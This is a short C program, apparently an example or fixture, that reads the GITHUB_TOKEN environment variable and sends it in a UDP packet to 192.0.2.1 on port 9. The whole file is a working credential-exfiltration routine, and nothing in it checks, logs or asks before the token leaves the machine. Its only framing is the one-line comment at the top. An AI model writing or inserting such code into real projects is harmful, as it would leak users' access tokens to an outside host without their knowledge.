// Passes a secret on, in a packet.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

int main(void) {
    const char *secret = getenv("GITHUB_TOKEN");
    int descriptor = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(9)};
    inet_pton(AF_INET, "192.0.2.1", &address.sin_addr);
    sendto(descriptor, secret, strlen(secret), 0, (struct sockaddr *)&address, sizeof address);
    return 0;
}
